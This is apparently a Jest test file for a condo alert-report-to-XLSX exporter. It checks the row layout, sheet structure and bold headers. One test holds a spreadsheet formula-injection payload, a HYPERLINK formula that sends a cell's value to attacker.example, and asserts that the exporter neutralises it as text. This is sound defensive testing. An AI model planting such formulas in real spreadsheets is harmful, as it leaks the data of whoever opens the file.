/**
 * fflate's browser build is ESM only; under jest (CommonJS) its Node build is taken instead.
 * @jest-environment-options {"customExportConditions": ["node", "require", "default"]}
 */
// The XLSX is read back as what it is, a zip of XML (readXlsxBack): never with SheetJS, whose parser has known CVEs.
import { readXlsxBack } from '@condo/shared/testing';
import { SAMPLE_COLUMNS, sampleReport } from './sample';
import { reportToXls, SHEET_NAME, xlsRows } from './xls';

describe('reportToXls', () => {
  it('lays the report out as rows: the cover, tiles as label/value, charts as figures, tables with their header', () => {
    const rows = xlsRows(sampleReport(2)).map((row) => row.cells);
    expect(rows).toEqual([
      ['Detail Alert Report'],
      ['Marina Bay Residences'],
      ['16-Nov-26 to 22-Nov-26'],
      [],
      ['Alert Report'],
      ['Total Alerts', 2],
      ['Open Alerts', 1],
      ['Closed Alerts', 1],
      [],
      ['Alerts by Status'],
      ['Open', 1],
      ['Closed', 1],
      [],
      ['Alerts per Day'],
      ['Date', 'Alerts'],
      ['16-Nov-26', 3],
      ['17-Nov-26', 5],
      ['18-Nov-26', 2],
      [],
      ['Alerts were 12% more than last week.'],
      [],
      ['Parking Unauthorized (2)'],
      SAMPLE_COLUMNS.map((column) => column.title),
      [1, '01-11-2026 00:00:00', 'Vehicle SG1000A parked in a resident lot', 'Open', 'View', 'Guard informed'],
      [2, '02-11-2026 01:01:00', 'Vehicle SG1001A parked in a resident lot', 'Closed', 'N/A', '-'],
      [],
      ['No Data Found!'],
      [],
    ]);
  });

  it('writes one sheet "Report" whose rows are the report rows, numbers as numbers and the header bold', async () => {
    const report = sampleReport(300);
    const { files, text, sheetXml, written } = await readXlsxBack(await reportToXls(report));
    expect(text('xl/workbook.xml')).toMatch(new RegExp(`<sheet name="${SHEET_NAME}"`));
    expect(Object.keys(files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))).toHaveLength(1);
    expect(sheetXml).toContain(
      '<f>HYPERLINK(&quot;https://service.example/alerts/1/details&quot;,&quot;View&quot;)</f>',
    );

    const expected = xlsRows(report);
    const nonEmpty = expected.map((row, index) => ({ ...row, index: index + 1 })).filter((row) => row.cells.length);
    expect(written.map((row) => row.index)).toEqual(nonEmpty.map((row) => row.index));
    expect(written.map((row) => row.cells)).toEqual(nonEmpty.map((row) => row.cells));
    expect(written.find((row) => row.cells[0] === 300)?.cells).toEqual([
      300,
      '20-11-2026 11:59:00',
      'Vehicle SG1299A parked in a resident lot',
      'Closed',
      'N/A',
      '-',
    ]);
    // Header cells carry a style whose font is bold; body cells do not.
    const header = written.find((row) => row.cells[0] === 'S.No');
    const body = written.find((row) => row.cells[0] === 1);
    const styles = text('xl/styles.xml') ?? '';
    const fonts = [
      ...(/<fonts[^>]*>(.*?)<\/fonts>/s.exec(styles)?.[1] ?? '').matchAll(/<font>(.*?)<\/font>|<font\/>/gs),
    ];
    const xfs = [...(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(styles)?.[1] ?? '').matchAll(/<xf [^>]*fontId="(\d+)"/g)];
    const isBold = (style: number | undefined) => /<b\/>|<b /.test(fonts[Number(xfs[style ?? 0]?.[1])]?.[0] ?? '');
    expect(header?.styles.every(isBold)).toBe(true);
    expect(body?.styles.some(isBold)).toBe(false);
  });

  it('writes a text from the data that a spreadsheet would run as a formula as text; numbers and its own links stay', async () => {
    const injected = '=HYPERLINK("http://attacker.example/?x="&A2,"Details")';
    const report = sampleReport(3);
    const table = report.sections.find((section) => section.kind === 'table');
    if (table?.kind !== 'table') throw new Error('the sample has a table');
    table.rows[0] = { ...table.rows[0], description: injected, remarks: '@SUM(A1:A9)' };
    report.sections.unshift({ kind: 'tiles', tiles: [{ label: 'Change', value: -5 }] });

    const { sheetXml, written } = await readXlsxBack(await reportToXls(report));
    const row = written.find((candidate) => candidate.cells[0] === 1)?.cells;
    expect(row?.[2]).toBe(`'${injected}`);
    expect(row?.[5]).toBe("'@SUM(A1:A9)");
    expect(row?.[4]).toBe('View');
    expect(sheetXml).toContain(
      '<f>HYPERLINK(&quot;https://service.example/alerts/1/details&quot;,&quot;View&quot;)</f>',
    );
    expect(sheetXml).not.toContain('attacker.example/?x=&quot;&amp;A2,&quot;Details&quot;)</f>');
    expect(written.find((candidate) => candidate.cells[0] === 'Change')?.cells).toEqual(['Change', -5]);
  });
});
